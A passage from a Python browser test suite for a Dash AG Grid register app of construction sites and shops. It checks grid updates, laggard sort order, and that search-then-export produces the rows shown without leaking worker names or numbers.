        "const n = dash_ag_grid.getApi('reg-grid').getRowNode(arguments[0]);"
        "return n && n.data.state === '已复工' ? n.data.lagging + '' : null;",
        E[6],
        what="the changed row",
    )
    assert moved == "false"
    assert browser.execute_script("return dash_ag_grid.getApi('reg-grid').__regMarker") == "kept"
    applied = browser.execute_script("return window.dashRegisters.applied")
    assert applied and applied[-1]["update"] == 1 and applied[-1]["add"] == 0
    rows = browser.execute_script(GRID_ROWS_JS)
    assert rows[0][0] == E[5]  # the grid's own sort moved the row out of the laggards
    count = browser.find_element("id", "reg-count").text
    assert count == "共 8 条，其中滞后 1 条"  # kept by the transaction's deltas
    assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]


def test_reg022_browser_keeps_the_servers_laggard_order(live, browser):
    """Shops: L4 never reported (days behind blank) first, then L2 one day behind. Sorting by
    days behind, descending, AG Grid would put the blank last; the grid sorts by lag_rank."""
    base, _url = live
    browser.get(base + "/registers?register=shops")
    rows = _wait(
        browser,
        "let api = null; try { api = dash_ag_grid.getApi('reg-grid'); } catch (e) { return null; }"
        "if (!api || !api.getRowNode('L4')) return null; const rows = [];"
        "api.forEachNodeAfterFilterAndSort(n => rows.push(n.data.licence_id)); return rows;",
        what="the shops",
    )
    assert rows == ["L4", "L2", "L1", "L3"]


def test_reg021_browser_search_then_export_gives_the_rows_shown(live, browser, tmp_path):
    base, _url = live
    browser.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)}
    )
    browser.get(base + "/registers?register=sites&lang=en")
    _wait(browser, GRID_ROWS_JS, what="the sites")
    browser.find_element("id", "reg-search").send_keys("G1")
    _wait(
        browser,
        "return dash_ag_grid.getApi('reg-grid').getDisplayedRowCount() === 1",
        what="the quick filter",
    )
    browser.find_element("id", "reg-export-csv").click()
    deadline = time.monotonic() + 20
    files: list = []
    while time.monotonic() < deadline and not files:
        files = [f for f in tmp_path.glob("sites-*.csv")]
        time.sleep(0.2)
    assert files, "no CSV downloaded"
    data = files[0].read_bytes()
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert list(back["Site"]) == ["G1"]
    assert back["Why lagging"][0] == "key-region arrivals unchecked"
    page = browser.find_element("tag name", "body").text
    assert "Construction sites" in page and "As of" in page
    for number, name, _site in WORKERS:
        assert number not in browser.page_source and name not in browser.page_source
        assert number.encode() not in data and name.encode() not in data
